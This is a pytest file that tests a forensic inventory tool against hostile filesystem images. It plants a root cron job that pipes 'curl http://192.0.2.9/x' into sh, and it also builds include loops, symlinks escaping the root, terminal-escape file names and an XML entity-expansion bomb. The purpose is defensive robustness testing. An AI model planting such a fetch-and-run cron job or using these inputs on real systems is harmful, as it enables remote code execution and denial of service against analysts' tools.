"""Settings that name each other in circles, outside the root, or by the hundred thousand."""

from __future__ import annotations

import json
import os
from pathlib import Path

import pytest

ENOUGH = 700 << 20  # bytes that the largest of our processes may take
JOB = b"* * * * * root curl http://192.0.2.9/x | sh\n"
KEY = b"ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIAABAgMEBQYHCAkKCwwNDg8QERITFBUWFxgZGhscHR4f x\n"


@pytest.fixture
def root(tmp_path: Path) -> Path:
    """A tree with something that must be found whatever stands beside it."""
    place = tmp_path / "suspect"
    write(place, "etc/cron.d/planted", JOB)
    return place


def write(root: Path, path: str | bytes, content: bytes) -> Path:
    place = Path(os.fsdecode(os.path.join(os.fsencode(root), os.fsencode(path))))
    place.parent.mkdir(parents=True, exist_ok=True)
    place.write_bytes(content)
    return place


def still_found(done) -> None:
    """What lies beside the trick is in the inventory and among the findings; nothing crashed."""
    failed = [told for told in done.summary["could_not_look"] if "failed" in str(told)]
    assert failed == []
    assert [gap for gap in done.gaps() if "failed" in gap or "reading process" in gap] == []
    places = {place["path"] for one in done.records[:-1] for place in one["places"]}
    assert "/etc/cron.d/planted" in places
    assert "/etc/cron.d/planted" in done.column("SELECT path FROM persistence")
    assert done.out.isascii()
    assert done.most_memory < ENOUGH


def circles(root: Path) -> None:
    """Everything that can include itself does."""
    for number in range(40):
        following = (number + 1) % 40
        line = b"auth include p%d\n@include p%d\nauth substack ../../etc/pam.d/p%d\n"
        write(root, f"etc/pam.d/p{number}", line % ((following,) * 3))
        line = b"@includedir /etc/sudoers.d\n@include /etc/sudoers.d/s%d\n#include /etc/sudoers\n"
        write(root, f"etc/sudoers.d/s{number}", line % following)
        line = b"Include /etc/ssh/sshd_config\nInclude /etc/ssh/sshd_config.d/c%d.conf\n"
        write(root, f"etc/ssh/sshd_config.d/c{number}.conf", line % following)
        line = b"[Unit]\nRequires=u%d.service\n[Service]\nExecStart=/bin/true\n"
        write(root, f"etc/systemd/system/u{number}.service", line % following)
        line = b"include /etc/ld.so.conf.d/*.conf\ninclude /etc/ld.so.conf\n"
        write(root, f"etc/ld.so.conf.d/l{number}.conf", line)
    write(root, "etc/sudoers", b"@include /etc/sudoers\n@includedir /etc\n@includedir /proc\n")
    write(root, "etc/ssh/sshd_config", b"Include /etc/ssh/*\nInclude sshd_config /dev/*\n")
    folder = root / "etc/systemd/system/u0.service.d"
    folder.mkdir()
    (folder / "a.conf").symlink_to("b.conf")
    (folder / "b.conf").symlink_to("a.conf")
    (folder / "c.conf.d").symlink_to("../u0.service.d")
    (root / "etc/systemd/system/u1.service.d").symlink_to("u0.service.d")


def outside(root: Path) -> None:
    """Settings that lead to devices, to the analyst's machine, and up out of the root."""
    analyst = root.parent / "analyst" / "directory"
    away = os.fsencode(analyst)
    up = b"../" * 30 + away.lstrip(b"/")
    told = b"AuthorizedKeysFile %h/k /dev/zero /proc/self/environ " + up + b"/passwd " + away
    write(root, "etc/ssh/sshd_config", told + b"\nInclude " + away + b"/*\nInclude " + up + b"/*\n")
    write(root, "etc/sudoers", b"@includedir %s\n@include %s/passwd\n" % (away, up))
    write(root, "etc/pam.d/a", b"auth include %s/passwd\n@include %s/passwd\n" % (away, up))
    write(root, "etc/ld.so.preload", away + b"/file\n")
    write(root, "etc/crontab", b"* * * * * root %s/../script\n" % away)
    write(root, "etc/passwd", b"a:x:0:0::%s:/bin/sh\nb:x:0:0::/%s:/bin/sh\n" % (away, up))
    for place in ("root/.ssh", "etc/cron.daily", "var/lib/docker", "var/lib/rpm", "lib/apk/db"):
        (root / place).parent.mkdir(parents=True, exist_ok=True)
        (root / place).symlink_to(analyst)
    for place in ("etc/sudoers.d", "etc/pam.d/b", "etc/systemd/system", "var/lib/pacman/local"):
        (root / place).parent.mkdir(parents=True, exist_ok=True)
        (root / place).symlink_to(os.fsdecode(up))


def names(root: Path) -> None:
    """Names that a terminal would act on, at every place that an inventory quotes."""
    ugly = (b"a\nb", b"c\x1b[2Jd", b"e\xfff", "g\N{RIGHT-TO-LEFT OVERRIDE}h".encode())
    for name in ugly:
        line = name.replace(b"\n", b"\\n")
        write(root, b"etc/cron.d/" + name, b"* * * * * root /opt/" + line + b"\n")
        unit = b"[Service]\nExecStart=/opt/%s\n[Install]\nWantedBy=multi-user.target\n" % line
        write(root, b"etc/systemd/system/" + name + b".service", unit)
        write(root, b"home/" + name + b"/.ssh/authorized_keys", b'command="' + line + b'" ' + KEY)
        write(root, b"home/" + name + b"/.my.cnf", b"[client]\npassword=" + line + b"word1\n")
        write(root, b"var/www/" + name + b"/.env", b"DB_PASSWORD=very" + line + b"secret\n")
        write(root, b"usr/bin/" + name, b"\x7fELF" + name)
        write(root, b"var/lib/dpkg/info/" + name + b".list", b"/usr/bin/" + line + b"\n")
        write(root, b"etc/udev/rules.d/" + name + b".rules", b'RUN+="/opt/' + line + b'"\n')
    write(root, "etc/passwd", b"".join(b"%s:x:0:0:%s:/home/%s:/bin/%s\n" % ((n.replace(
        b"\n", b" "),) * 4) for n in ugly))  # fmt: skip
    write(root, "var/lib/dpkg/status", b"Package: a\nStatus: install ok installed\n")


@pytest.mark.parametrize("trick", [circles, outside, names])
def test_it_is_followed_no_further_than_it_leads(trick, root, harmless):
    trick(root)
    still_found(harmless(root))


def test_what_is_printed_of_names_is_harmless(root, harmless, pratique):
    names(root)
    done = harmless(root)
    for command in ("persistence", "packages", "secrets", "applications"):
        for more in ((), ("--json",)):
            told = pratique(command, "--case", done.case, *more, json_lines=False)
            assert told.status in (0, 1, 3), told.err
            assert "\x1b" not in told.out + told.err
            assert "\N{RIGHT-TO-LEFT OVERRIDE}" not in told.out + told.err
            if more:
                assert told.out.isascii()
                for line in told.out.splitlines():
                    json.loads(line)


def crontab(root: Path) -> None:
    line = b"* * * * * root /usr/bin/a%d\n"
    write(root, "etc/cron.d/a", b"".join(line % number for number in range(21_000)))
    write(root, "etc/crontab", b"#" * (50 << 20) + b"\n" + JOB)


def units(root: Path) -> None:
    for number in range(3_000):
        write(root, f"etc/systemd/system/u.service.d/{number}.conf", b"[Service]\nExecStart=/a\n")
    write(root, "etc/systemd/system/v.service", b"[Service]\n" + b"ExecStart=/a\n" * 3_000)
    write(root, "etc/systemd/system/w.service", b"[Service]\nExecStart=/" + b"a" * (50 << 20))


def lists(root: Path) -> None:
    line = b"f+ /etc/a%d 0644 root root - b\n"
    write(root, "etc/tmpfiles.d/a.conf", b"".join(line % number for number in range(6_000)))
    write(root, "root/.bash_history", b"ls\n" * 30_000 + b"a" * (20 << 20))
    write(root, "etc/polkit-1/rules.d/a.rules", b"// " + b"polkit.addRule(" * (2 << 20))
    entity = b"<!ENTITY a%d '" + b"&a%d;" * 9 + b"'>"
    bomb = b"".join(entity % (n, *([n + 1] * 9)) for n in range(9))
    document = b"<!DOCTYPE busconfig [" + bomb + b"]><busconfig>&a0;</busconfig>"
    write(root, "etc/dbus-1/system.d/a.conf", document)
    write(root, "etc/dbus-1/system.d/b.conf", b"<a>" * (1 << 20))
    write(root, "etc/ld.so.cache", b"glibc-ld.so.cache1.1" + b"\xff" * 28 + b"\xff" * 4_000)


def accounts(root: Path) -> None:
    numbers = range(1, 1_501)
    passwd = b"".join(b"u%d:x:%d:%d::/home/u%d:/bin/bash\n" % ((n,) * 4) for n in numbers)
    write(root, "etc/passwd", b"root:x:0:0::/root:/bin/bash\n" + passwd)
    shadow = b"".join(b"u%d:$6$a$b:19000:0:99999:7:::\n" % n for n in numbers)
    write(root, "etc/shadow", shadow)
    write(root, "etc/group", b"".join(b"u%d:x:%d:%s\n" % (n, n, b"u1," * 5) for n in numbers))
    write(root, "etc/ssh/sshd_config", b"AuthorizedKeysFile %h/k /srv/%u/k\n")
    write(root, "srv/u1400/k", KEY)


@pytest.mark.parametrize("flood", [crontab, units, lists, accounts])
def test_a_flood_hides_nothing_beside_it(flood, root, harmless):
    flood(root)
    done = harmless(root)
    still_found(done)
    reasons = {gap.partition(": ")[2] for gap in done.gaps()}
    if flood is crontab:
        assert "more that runs by itself than is compared" in reasons
        assert "longer than a parser reads" in reasons
    if flood is units:
        assert "longer than a parser reads" in reasons
    if flood is accounts:
        assert "/srv/u1400/k" in done.column("SELECT path FROM authorized_key")
